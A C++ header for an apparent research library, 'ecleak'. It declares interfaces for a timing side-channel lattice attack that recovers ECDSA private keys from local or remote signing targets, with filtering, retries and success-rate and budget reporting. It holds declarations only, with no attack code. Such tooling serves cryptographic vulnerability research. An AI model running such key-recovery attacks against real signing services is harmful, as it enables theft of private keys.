#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "ecleak/latred.hpp"
#include "ecleak/net.hpp"

namespace ecleak {

struct CollectSpec {
  std::string mode = "local";  // "local" | "remote"
  size_t count = 0;
  std::string target;  // remote: "host:port"
  double freq_hz = 3.6e9;
  double net_sigma_cycles = 0;
  int timeout_ms = 1000;
};

struct FilterSpec {
  // "profile": phase-1 profiling run recommends the window.
  // "window":  explicit [lower, upper] cycles window.
  // "fastest": keep the fastest_m fastest samples.
  std::string mode = "profile";
  int assumed_lzb = 8;
  size_t profile_count = 12000;  // phase-1 sample budget (mode=profile)
  double purity_z = 0;
  int64_t lower = 0, upper = 0;
  size_t fastest_m = 0;
};

struct AttackConfig {
  std::string curve = "p256";
  Scheme scheme = Scheme::ecdsa;
  HnpVariant variant = HnpVariant::eliminated;
  bool recenter = true;
  uint64_t seed = 1;
  LeakProfile profile;  // local-mode device profile
  mpz_class device_d;   // signer key: local simulation + phase-1 labeling
  Point pub;            // verification target; derived from device_d if unset
  CollectSpec collect;
  FilterSpec filter;
  size_t t = 0;  // lattice samples per attempt
  int retries = 8;
  ReduceOptions reduce;
};

AttackConfig attack_config_from_json(const std::string& text);
std::string attack_config_to_json(const AttackConfig& cfg);

struct AttemptLog {
  size_t attempt = 0;
  size_t dim = 0;
  bool tie_row_found = false;
  bool verified = false;
  bool partial = false;
  double reduce_s = 0;
};

struct ExperimentResult {
  bool success = false;
  mpz_class recovered_d;
  uint64_t signatures_used = 0;      // phase-2 collection volume
  uint64_t profile_signatures = 0;   // phase-1 volume (mode=profile)
  size_t filtered_count = 0;
  bool no_separation = false;
  std::vector<AttemptLog> attempts;
  double collect_s = 0, reduce_s = 0;
};

std::string result_to_json(const ExperimentResult& r);

// Local or remote signature collection per cfg.collect.
std::vector<TimedSample> collect_samples(const AttackConfig& cfg,
                                         uint64_t* requests_sent = nullptr);

// Phase 1: cfg.filter.profile_count signatures from the device, nonces
// labeled via cfg.device_d. Seeded independently of the phase-2 stream.
std::vector<TimedSample> collect_phase1_labeled(const AttackConfig& cfg);

// Filter + subset + reduce + extract on an existing pool. Filter mode
// "profile" requires a nonce-labeled phase-1 pool.
ExperimentResult attack_on_pool(const AttackConfig& cfg,
                                const std::vector<TimedSample>& pool,
                                const std::vector<TimedSample>& labeled_profile_pool);

// Full pipeline: phase 1 (when filtering by profile), phase 2 collection,
// then lattice attack with retries.
ExperimentResult run_attack(const AttackConfig& cfg);

struct CurvePoint {
  size_t t = 0;
  int trials = 0;
  int successes = 0;
  double avg_reduce_s = 0;
};

// Success rate vs lattice size over random subsets of a fixed filtered pool;
// one reduction per trial.
std::vector<CurvePoint> success_curve(const AttackConfig& cfg,
                                      const std::vector<TimedSample>& filtered,
                                      const std::vector<size_t>& t_values,
                                      int trials);
std::string curve_to_csv(const std::vector<CurvePoint>& pts);

struct HistBin {
  int64_t lo = 0;
  size_t count = 0;
};
std::vector<HistBin> emit_histogram(const std::vector<TimedSample>& samples,
                                    int64_t bin_width);
std::string histogram_to_csv(const std::vector<HistBin>& bins);

struct BudgetReport {
  int assumed_lzb = 0;
  size_t t = 0;
  uint64_t yield_num = 1, yield_den = 1;
  mpz_class raw;    // t * 2^lzb
  mpz_class total;  // floor(raw * yield_den / yield_num)
  double minutes = -1;  // total / rate_per_min; -1 when no rate given
};
BudgetReport budget_report(int assumed_lzb, size_t t, uint64_t yield_num,
                           uint64_t yield_den, double rate_per_min = 0);
std::string budget_to_json(const BudgetReport& r);

}  // namespace ecleak
